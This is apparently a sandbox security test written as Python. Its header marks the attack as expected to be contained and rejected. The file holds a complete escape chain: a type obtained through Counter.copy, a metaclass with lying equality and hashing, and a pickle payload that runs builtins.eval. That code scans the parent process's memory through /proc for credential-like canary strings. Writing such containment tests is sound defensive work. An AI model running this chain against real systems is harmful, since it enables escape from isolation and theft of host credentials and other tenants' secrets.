# expect: contained
# attack: full escape (Counter.copy -> type -> metaclass lie -> pickle) then read the host's memory for its AWS credentials and instance A's secret
# outcome: rejected
# error: SandboxAccessError
import collections

from functions_sdk import TrackEvent


class Anchor:
    pass


SCAN = """
import os, re
found = []
pat = re.compile(rb'CANARY-[A-Z]+-[0-9a-f]{16}')
pid = os.getppid()
with open('/proc/%d/maps' % pid) as fh:
    maps = fh.read().splitlines()
with open('/proc/%d/mem' % pid, 'rb', 0) as mem:
    for line in maps:
        parts = line.split()
        if 'rw' not in parts[1] or (len(parts) > 5 and not parts[5].startswith('[heap')):
            continue
        lo, hi = (int(x, 16) for x in parts[0].split('-'))
        while lo < hi:
            size = min(1 << 20, hi - lo)
            try:
                mem.seek(lo)
                found.extend(m.decode() for m in pat.findall(mem.read(size)))
            except OSError:
                break
            lo += size
out = {'type': 'track', 'event': 'x', 'userId': 'u', 'properties': {'found': sorted(set(found))}}
"""


def on_track(event, settings):
    make = collections.Counter.copy(int)
    anchor = hash(Anchor)

    def same(a, b):
        return True

    def fake_hash(a):
        return anchor

    liar = make("Liar", (make(TrackEvent),), {"__eq__": same, "__hash__": fake_hash})
    model = liar("Model", (TrackEvent,), {"__module__": "probe"})
    expr = "(lambda d: (exec(" + repr(SCAN) + ", d), d['out'])[1])({})"
    payload = expr.replace("\\", "\\u005c").replace("\n", "\\u000a")
    blob = "cbuiltins\neval\n(V" + payload + "\ntR."
    got = model.parse_raw(blob.encode(), content_type="application/pickle", allow_pickle=True)
    return {"escaped": True, "found": got.properties["found"]}
